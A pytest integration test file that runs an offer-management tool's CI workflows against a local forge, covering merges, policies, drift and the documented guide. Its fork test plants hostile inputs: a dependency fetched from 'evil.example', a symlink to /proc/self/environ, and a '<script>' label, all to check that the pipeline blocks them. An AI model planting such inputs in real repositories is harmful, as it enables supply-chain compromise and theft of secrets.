"""The generated workflows, carried out in order on real repositories, with a real store and a forge on this machine."""

from __future__ import annotations

import re
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from helpers.forked import forks_of_this_process
from helpers.runner import Hub, Job, Machine, environ_of, evaluated, tools
from helpers.server_process import serving

pytestmark = pytest.mark.slow

OPERATORS = """operators:
  admin: {label: Ana, protected: true, profile: administrator, email: ana@example.com, accounts: {github: 1}}
  rita: {label: Rita, profile: offer-manager, email: rita@example.com, accounts: {github: 2}}
  ci: {label: Pipeline, profile: administrator, automation: true}
"""

POLICY = """version: 1
policies:
  arrivals:
    applies_to: [step]
    require: step.action <> 'create'
    message: New ones wait
"""


class Team:
    """A clone of somebody, and the machine of the forge."""

    def __init__(self, machine: Machine, clone: Path, store: Path) -> None:
        self.machine, self.clone, self.store = machine, clone, store

    def offerkit(self, *words: str) -> str:
        """What the program prints here, as an administrator, on the store."""
        environ = {**self.machine.environ, "OFFERKIT_STORE": str(self.store), "OFFERKIT_OPERATOR": "admin"}
        child = forks_of_this_process().start(list(words), self.clone, environ)
        said = "".join(child.communicate())
        assert child.wait() == 0, said
        return said

    def git(self, *words: str) -> str:
        """What git answers in the clone."""
        return self.machine.git(*words, folder=self.clone)

    def branch(self, name: str, old: str, new: str, path: str = "specs/recipients/offers.yaml") -> None:
        """A branch of main with one change, pushed."""
        self.git("fetch", "-q", "origin")
        self.git("checkout", "-q", "-B", name, "origin/main")
        self.change(old, new, path)
        self.push(name)

    def change(self, old: str, new: str, path: str = "specs/recipients/offers.yaml") -> None:
        """A commit."""
        file = self.clone / path
        content = file.read_bytes()
        assert old.encode() in content
        file.write_bytes(content.replace(old.encode(), new.encode()))
        self.git("commit", "-qam", f"Write {new.strip()[:40]}")

    def push(self, name: str, where: str = "origin") -> None:
        """To the forge, whatever was there."""
        self.git("push", "-qf", where, f"HEAD:refs/heads/{name}")


@contextmanager
def made(tmp_path: Path) -> Iterator[Team]:
    """A project that is live, at a forge, with the pipeline that init writes."""
    forge = Hub()
    folder = tmp_path / "tools"
    tools(folder)
    forks_of_this_process().install(folder)
    bare, clone, store = tmp_path / "offers.git", tmp_path / "clone", tmp_path / "srv" / "store.db"
    machine = Machine(tmp_path, bare, forge, environ_of(folder))
    bare.mkdir()
    machine.git("init", "-q", "--bare", "-b", "main", ".")
    machine.git("config", "uploadpack.allowAnySHA1InWant", "true")
    machine.git("init", "-q", "-b", "main", str(clone))
    team = Team(machine, clone, store)
    team.offerkit("init", "--ci", "github", "--install", "offerkit==0.1.0")
    shared = clone / "specs/shared.yaml"
    text = shared.read_text(encoding="utf-8")
    shared.write_text(text[: text.index("operators:")] + OPERATORS, encoding="utf-8")
    team.offerkit("fmt")
    team.offerkit("apply", "--yes", "--create-store")
    team.offerkit("approve", "offer.*")
    team.offerkit("promote", "--yes")
    team.git("remote", "add", "origin", bare.as_uri())
    team.git("add", "-A")
    team.git("commit", "-qm", "Begin")
    team.git("push", "-q", "origin", "main")
    forge.person("ana", 1)
    forge.person("rita", 2)
    forge.person("eve", 3)
    try:
        yield team
    finally:
        machine.close()
        forge.close()
    assert forge.problems == []


@pytest.fixture
def team(tmp_path: Path) -> Iterator[Team]:
    """The runners have the store as a file, as those of a team's own do, and act as the automation."""
    with made(tmp_path) as team:
        team.machine.variables["OFFERKIT_STORE"] = str(team.store)
        team.machine.environ["OFFERKIT_OPERATOR"] = "ci"
        yield team


@pytest.fixture
def served(tmp_path: Path) -> Iterator[Team]:
    """The store is behind a server, and each job has its own token."""
    with made(tmp_path) as team, serving(team.clone, store=str(team.store)) as server:
        for operator, scope in (("admin", "read"), ("ci", "apply"), ("ci", "relay"), ("admin", "promote")):
            said = team.offerkit("token", "create", operator, "--scope", scope, "--expires", "30d", "--name", scope)
            [token] = re.findall(r"ofk_\S+|[A-Za-z0-9_-]{40,}", said)[:1]
            team.machine.secrets[f"OFFERKIT_{scope.upper()}_TOKEN"] = token
        team.machine.variables["OFFERKIT_STORE"] = f"http://127.0.0.1:{server.port}"
        yield team


def results(jobs: dict[str, Job]) -> dict[str, str]:
    """The jobs that were not skipped, and how they ended."""
    failed = [f"{name}:\n{job.said}" for name, job in jobs.items() if job.result == "failure"]
    assert not failed, "\n".join(failed)
    return {name: job.result for name, job in jobs.items() if job.result != "skipped"}


def reviewed(team: Team, number: int) -> None:
    """Rita approves the head of a pull request."""
    forge = team.machine.forge
    forge.reviews.clear()  # of other pull requests: the fake has one list
    forge.review(forge.people[2], "APPROVED", forge.pulls[number]["head"]["sha"], "2026-11-01T00:00:00Z")


def from_a_branch_to_live(team: Team, how: str) -> None:
    machine, forge = team.machine, team.machine.forge
    team.branch("summer", "weight: 20", "weight: 30")
    ran = results(machine.opened(1, "summer", forge.people[1]))
    assert ran == dict.fromkeys(("validate", "plan", "comment", "check"), "success")
    [comment] = machine.said()
    assert "canada-rockies" in comment and "https://github.example/" in comment
    team.change("weight: 30", "weight: 40")  # after a word of a colleague
    team.git("commit", "-q", "--amend", "-m", "Summer")
    team.push("summer")
    results(machine.opened(1, "summer", forge.people[1]))
    [comment] = machine.said()
    assert "40" in comment
    reviewed(team, 1)
    assert results(machine.queued(1)) == {"validate": "success", "check": "success"}
    assert results(machine.merged(1, how)) == {"apply": "success"}
    assert "rita" in team.offerkit("history", "-n", "3")
    assert results(machine.dispatched(promote=False)) == {"promotion": "success"}
    assert "canada-rockies" in machine.summaries[-1]
    assert results(machine.dispatched(promote=True)) == {"promotion": "success", "promote": "success"}
    assert "Started by omar in run" in team.offerkit("history", "-n", "1")
    team.git("fetch", "-q")
    team.git("checkout", "-q", "--detach", "origin/main")
    assert "No changes" in team.offerkit("plan")


def test_from_a_branch_to_live_with_a_store_on_the_runner(team: Team) -> None:
    from_a_branch_to_live(team, "squash")


def test_from_a_branch_to_live_through_a_server(served: Team) -> None:
    from_a_branch_to_live(served, "merge")


def test_what_is_not_what_was_read_is_neither_merged_nor_applied(team: Team) -> None:
    machine, forge = team.machine, team.machine.forge
    team.branch("other", "label: Newsletter", "label: The newsletter")
    team.branch("summer", "weight: 20", "weight: 30")
    results(machine.opened(1, "summer", forge.people[1]))
    results(machine.opened(2, "other", forge.people[1]))
    assert results(machine.merged(2, "rebase")) == {"apply": "success"}
    assert results(machine.queued(1))["check"] == "success"  # it has nothing to do with it
    assert results(machine.night()) == {"check": "success", "drift": "success"}
    team.git("checkout", "-q", "-B", "elsewhere", "origin/main")
    team.change("weight: 20", "weight: 25")
    team.offerkit("apply", "offer.canada-rockies", "--yes")  # somebody, past the forge
    night = machine.night()
    assert night["check"].result == "failure" and "canada-rockies" in night["check"].said
    queue = machine.queued(1)
    assert queue["check"].result == "failure" and "canada-rockies" in queue["check"].said
    merged = machine.merged(1)
    assert merged["apply"].result == "failure" and "OFR92" in merged["apply"].said
    assert "No changes" in team.offerkit("plan", "offer.canada-rockies")
    [issue] = machine.forge.issues.values()
    assert "canada-rockies" in issue["body"]


def test_what_cannot_be_merged_fails_the_required_job(team: Team) -> None:
    """A job that is skipped would count as passed."""
    machine, forge = team.machine, team.machine.forge

    def ended(number: int, branch: str) -> dict[str, str]:
        jobs = machine.opened(number, branch, forge.people[1])
        return {name: jobs[name].result for name in ("validate", "plan", "comment", "check")}

    team.branch("wrong", "weight: 20", "weight: heavy")
    assert ended(1, "wrong") == {"validate": "failure", "plan": "skipped", "comment": "skipped", "check": "failure"}
    assert machine.said() == []
    team.branch("denied", "weight: 20", "weight: 30")
    (team.clone / "specs/recipients/policies.yaml").write_text(POLICY, encoding="utf-8")
    team.git("add", "-A")
    team.git("commit", "-qm", "Add a policy")
    team.push("denied")
    assert ended(2, "denied") == {"validate": "success", "plan": "failure", "comment": "success", "check": "failure"}
    [comment] = machine.said()
    assert "**Denied by a policy**" in comment and "New ones wait" in comment


@pytest.mark.parametrize("kind", ["line ends", "comment", "rename"])
def test_what_changes_little(team: Team, kind: str) -> None:
    """What means nothing is not commented on; a rename is one."""
    machine, forge = team.machine, team.machine.forge
    old, new = {
        "line ends": ("\n", "\r\n"),
        "comment": ("offers:\n", "# A word.\noffers:\n"),
        "rename": ("  newsletter:\n", "  letter:\n"),
    }[kind]
    team.git("config", "core.autocrlf", "false")
    team.git("checkout", "-q", "-B", "topic", "origin/main")
    team.change(old, new)
    if kind == "rename":
        team.change("offers:\n", "moved:\n  offer.newsletter: offer.letter\n\noffers:\n")
        team.change("newsletter", "letter", "cases/web-home.yaml")
        team.offerkit("fmt")
        team.git("commit", "-qam", "Format")
    team.push("topic")
    ran = results(
        {name: job for name, job in machine.opened(1, "topic", forge.people[1]).items() if name != "validate"}
    )
    assert ran == dict.fromkeys(("plan", "comment", "check"), "success")
    if kind == "rename":
        [comment] = machine.said()
        assert "recipients/offer.letter" in comment and "recipients/offer.newsletter" in comment
    else:
        assert machine.said() == []


def test_without_a_store(team: Team) -> None:
    machine, forge = team.machine, team.machine.forge
    machine.variables.clear()
    team.branch("summer", "weight: 20", "weight: 30")
    ran = results(machine.opened(1, "summer", forge.people[1]))
    assert ran == dict.fromkeys(("validate", "plan", "comment", "check"), "success")
    [comment] = machine.said()
    assert "+ weights[Summer].weight: 30" in comment
    assert results(machine.merged(1)) == {}
    assert results(machine.night()) == {"check": "success"}  # nothing is open


GUIDE = Path(__file__).resolve().parents[2] / "docs" / "pull-requests.md"


def test_the_guide(tmp_path: Path) -> None:
    """Its commands, in their order, from the first to the first promotion; the forge does what the text says it does."""
    page = GUIDE.read_text(encoding="utf-8")
    page = page[: page.index("## The jobs")]
    blocks = re.findall(r"^```bash\n(.*?)^```", page, re.MULTILINE | re.DOTALL)
    [operators] = re.findall(r"^```yaml\n(.*?)^```", page, re.MULTILINE | re.DOTALL)
    begin, store, repository, change, promotion = ([line.split("  #")[0] for line in b.splitlines()] for b in blocks)
    forge, folder, bare = Hub(), tmp_path / "tools", tmp_path / "my-offers.git"
    tools(folder)
    forks_of_this_process().install(folder)
    config = tmp_path / "gitconfig"
    config.write_text("[user]\n\tname = Ada\n\temail = ada@example.com\n")
    who = {name: value for name, value in environ_of(folder).items() if not name.endswith(("_NAME", "_EMAIL"))}
    machine = Machine(tmp_path, bare, forge, {**who, "GIT_CONFIG_GLOBAL": str(config)})
    bare.mkdir()
    machine.git("init", "-q", "--bare", "-b", "main", ".")
    machine.git("config", "uploadpack.allowAnySHA1InWant", "true")
    project = tmp_path / "my-offers"

    def typed(lines: list[str], where: Path = project) -> str:
        lines = [line.replace("https://HOST/my-offers.git", bare.as_uri()) for line in lines]
        done = subprocess.run(
            ["bash", "-ec", "exec 2>&1\n" + "\n".join(lines)],
            cwd=where,
            env=machine.environ,
            capture_output=True,
            text=True,
        )
        assert done.returncode == 0, done.stdout
        return done.stdout

    try:
        typed(begin, tmp_path)
        shared = project / "specs/shared.yaml"
        text = shared.read_text(encoding="utf-8")
        shared.write_text(text[: text.index("operators:")] + operators, encoding="utf-8")
        assert store.pop() == "offerkit serve"
        said = typed(store)
        tokens = re.findall(r"ofk_\S+|[A-Za-z0-9_-]{40,}", said)
        names = ("READ", "APPLY", "RELAY", "PROMOTE")
        machine.secrets |= {f"OFFERKIT_{name}_TOKEN": token for name, token in zip(names, tokens, strict=True)}
        typed(repository)
        ada, bea = forge.person("ada", 1001), forge.person("bea", 1002)
        with serving(project) as server:
            machine.variables["OFFERKIT_STORE"] = f"http://127.0.0.1:{server.port}"
            assert "canada-rockies" in typed(change)
            assert set(results(machine.opened(1, "summer", ada))) == {"validate", "plan", "comment", "check"}
            [comment] = machine.said()
            assert "1 offer changes" in comment and "eligibility of offer canada-rockies" in comment
            forge.review(bea, "APPROVED", forge.pulls[1]["head"]["sha"], "2026-11-01T00:00:00Z")
            assert results(machine.merged(1)) == {"apply": "success"}
            assert "bea" in typed(["offerkit history -n 1"])
            assert "canada-rockies" in typed(promotion)
            assert results(machine.dispatched(promote=True)) == {"promotion": "success", "promote": "success"}
            assert "No changes" in typed(["offerkit promote --plan-only"])
    finally:
        machine.close()
        forge.close()
    assert forge.problems == []


def test_the_runner_reads_expressions() -> None:
    context = {"github": {"event_name": "push"}, "vars": {}, "needs": {"plan": {"result": "success"}}}
    assert evaluated("github.event_name == 'push' && vars.STORE != ''", context) is False
    assert evaluated("!cancelled() && (vars.STORE != '' || needs.plan.result == 'success')", context) is True
    assert evaluated("github.event.pull_request.number || github.event_name", context) == "push"


def test_a_fork(team: Team, tmp_path: Path) -> None:
    """Its own run checks form; it is planned and commented on by the default branch's, and nothing of it is laid out."""
    machine, forge = team.machine, team.machine.forge
    fork = tmp_path / "fork.git"
    machine.git("clone", "-q", "--bare", machine.bare.as_uri(), str(fork))
    team.git("fetch", "-q", "origin")
    team.git("checkout", "-q", "-B", "evil", "origin/main")
    (team.clone / "requirements.txt").write_text("offerkit @ https://evil.example/offerkit.whl\n")
    (team.clone / "specs/recipients/spy.yaml").symlink_to("/proc/self/environ")
    team.git("add", "-A")
    team.change("weight: 20", "weight: 30")
    team.push("evil", str(fork))
    ran = machine.opened(7, "evil", forge.people[3], fork)
    assert ran["validate"].result == "failure" and ran["forks plan"].result == "skipped"  # the link leads outside
    team.git("rm", "-q", "specs/recipients/spy.yaml")
    team.change("label: Newsletter", "label: '@everyone <script>'")
    team.push("evil", str(fork))
    ran = machine.opened(7, "evil", forge.people[3], fork)
    assert results(ran) == dict.fromkeys(("validate", "forks plan", "forks comment"), "success")
    assert {name for name, job in ran.items() if job.result == "skipped"} >= {"plan", "comment", "check", "apply"}
    [comment] = machine.said()
    assert "canada-rockies" in comment
    reviewed(team, 7)
    merged = machine.merged(7)["apply"]  # a stranger wrote it: who may approve it is not known
    assert "Applied. Revision" in merged.said and "OFR720" in merged.said and merged.result == "failure"
